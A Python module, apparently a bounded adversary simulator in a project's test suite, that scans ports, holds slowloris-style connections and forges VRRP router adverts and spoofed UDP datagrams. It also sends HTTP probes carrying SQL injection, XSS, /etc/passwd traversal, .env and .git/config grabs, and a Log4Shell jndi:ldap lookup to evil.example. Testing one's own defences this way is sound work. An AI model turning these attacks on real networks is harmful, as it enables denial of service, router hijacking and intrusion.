"""A stranger on the segment: dials, holds connections, forges adverts and datagrams.

Run as a program inside the visitors' namespace with one JSON object as its argument; prints one
JSON object. Every load has an end: CONNECTIONS_MAX, SECONDS_MAX, REQUESTS_MAX.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Iterator, Mapping
from ipaddress import IPv4Address
from typing import Any

from shoestring.system.segment import ETH_P_IP, VRRP_PROTOCOL, udp_packet

CONNECTIONS_MAX = 1_000
SECONDS_MAX = 60.0
REQUESTS_MAX = 200_000
DIAL_SECONDS = 2.0
FORM_EACH = 7
BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)
# What a page can have a browser ask for: attacks as the URL standard writes them.
PICTURES = (
    "/?id={n}%27%20UNION%20SELECT%20{n},password%20FROM%20users--",
    "/?page=%3Cscript%3Ealert({n})%3C/script%3E",
    "/index.php?file=/etc/passwd&n={n}",
    "/wp-login.php?n={n}",
    "/.env?n={n}",
    "/cgi-bin/test-{n}.cgi",
    "/?x=%24%7Bjndi:ldap://evil.example/{n}%7D",
    "/phpmyadmin/index.php?n={n}",
    "/.git/config?n={n}",
    "/missing-{n}.png",
)


async def scan(plan: Mapping[str, Any]) -> dict[str, object]:
    """Dial every port of every address from `source` (by IPv6 from any of ours); return those that
    take a connection.
    """
    gate = asyncio.Semaphore(200)

    async def dial(host: str, port: int) -> tuple[str, int, bool]:
        async with gate:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(DIAL_SECONDS):
                    own = None if ":" in host else (plan["source"], 0)
                    _, writer = await asyncio.open_connection(host, port, local_addr=own)
                writer.close()
                return host, port, True
        return host, port, False

    asked = [dial(host, port) for host in plan["hosts"] for port in plan["ports"]]
    return {"open": [[h, p] for h, p, there in await asyncio.gather(*asked) if there]}


async def hold(plan: Mapping[str, Any]) -> dict[str, object]:
    """Hold many connections to each place: half say nothing, half begin and never go on."""
    count = min(int(plan["count"]), CONNECTIONS_MAX)
    held: dict[str, int] = {}
    writers = []
    gate = asyncio.Semaphore(250)

    async def dial(host: str, port: int, number: int) -> None:
        async with gate:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(DIAL_SECONDS):
                    _, writer = await asyncio.open_connection(
                        host, port, local_addr=(plan["source"], 0)
                    )
                if number % 2:
                    writer.write(b"\x16\x03\x01\x02\x00\x01" if number % 4 == 1 else b"GET / HT")
                writers.append(writer)
                held[f"{host} {port}"] = held.get(f"{host} {port}", 0) + 1

    asked = [dial(host, port, n) for host, port in plan["places"] for n in range(count)]
    await asyncio.gather(*asked)
    await asyncio.sleep(min(float(plan["seconds"]), SECONDS_MAX))
    for writer in writers:
        writer.close()
    return {"held": held}


async def pictures(plan: Mapping[str, Any]) -> dict[str, object]:
    """Be the visitors of a foreign page: each asks for every picture that the page names, and some
    of them are forms that the page sends.
    """
    sent, answered = itertools.count(), itertools.count()

    async def visit(source: str) -> None:
        for begin in range(0, int(plan["pictures"]), 50):
            try:
                async with asyncio.timeout(20):
                    await _burst(source, range(begin, begin + 50))
            except (OSError, TimeoutError, asyncio.IncompleteReadError):
                return  # blocked, most likely: it gets no answer any more

    async def _burst(source: str, numbers: range) -> None:
        reader, writer = await asyncio.open_connection(
            plan["host"], plan["port"], local_addr=(source, 0)
        )
        for n in numbers:
            if next(sent) >= REQUESTS_MAX:
                return
            target = PICTURES[n % len(PICTURES)].format(n=n)
            method = "POST" if n % FORM_EACH == 0 else "GET"
            head = f"{method} {target} HTTP/1.1\r\nHost: live.example\r\nUser-Agent: {BROWSER}\r\n"
            if method == "POST":
                head += "Origin: http://evil.example\r\nContent-Length: 0\r\n"
            head += "Accept: image/avif,image/webp,*/*;q=0.8\r\nReferer: http://evil.example/\r\n"
            writer.write((head + "Connection: keep-alive\r\n\r\n").encode())
            answer = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
            length = answer.partition("content-length:")[2].partition("\r\n")[0].strip()
            await reader.readexactly(int(length or 0))
            next(answered)
        writer.close()

    await asyncio.gather(*(visit(source) for source in plan["sources"]))
    return {"sent": next(sent), "answered": next(answered)}


async def frames(plan: Mapping[str, Any]) -> dict[str, object]:
    """Send forged frames at a pace: adverts of priority 255, or datagrams of the agents' link."""
    made = _adverts(plan) if plan["kind"] == "adverts" else _datagrams(plan)
    until = time.monotonic() + min(float(plan["seconds"]), SECONDS_MAX)
    count = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        own = sock.getsockname()[4]
        while time.monotonic() < until:
            sock.send(bytes.fromhex(plan["to"]) + own + struct.pack("!H", ETH_P_IP) + next(made))
            count += 1
            await asyncio.sleep(1 / float(plan["rate"]))
    return {"sent": count}


def _adverts(plan: Mapping[str, Any]) -> Iterator[bytes]:
    """Yield VRRP adverts (RFC 9568) in the name of the peer, for each router in turn."""
    source, target = IPv4Address(plan["source"]), IPv4Address(plan["target"])
    for vrid, address in itertools.cycle(plan["routers"]):
        body = struct.pack("!BBBBHH", 0x31, vrid, 255, 1, 10, 0) + IPv4Address(address).packed
        pseudo = source.packed + target.packed + struct.pack("!BBH", 0, VRRP_PROTOCOL, len(body))
        body = body[:6] + struct.pack("!H", _sum(pseudo + body)) + body[8:]
        head = struct.pack(
            "!BBHHHBBH4s4s",
            *(0x45, 0, 20 + len(body), 0, 0, 255, VRRP_PROTOCOL, 0),
            *(source.packed, target.packed),
        )
        yield head[:10] + struct.pack("!H", _sum(head)) + head[12:] + body


def _sum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _datagrams(plan: Mapping[str, Any]) -> Iterator[bytes]:
    """Yield datagrams in the name of the peer: of the right form, with a wrong signature."""
    dice = random.Random(3)  # noqa: S311  the same each time
    source, target = IPv4Address(plan["source"]), IPv4Address(plan["target"])
    kinds = (b"SHG2?", b"SHG2!", b"SHG2=", b"SHG3!", b"")
    for n in itertools.count():
        data = kinds[n % len(kinds)] + dice.randbytes(dice.choice((56, 64, 0, 1, 1200)))
        yield udp_packet(source, target, int(plan["port"]), data)


def main() -> None:
    """Do what the plan says."""
    plan = json.loads(sys.argv[1])
    done = {"scan": scan, "hold": hold, "pictures": pictures, "frames": frames}[plan["do"]]
    json.dump(asyncio.run(done(plan)), sys.stdout)


if __name__ == "__main__":
    main()
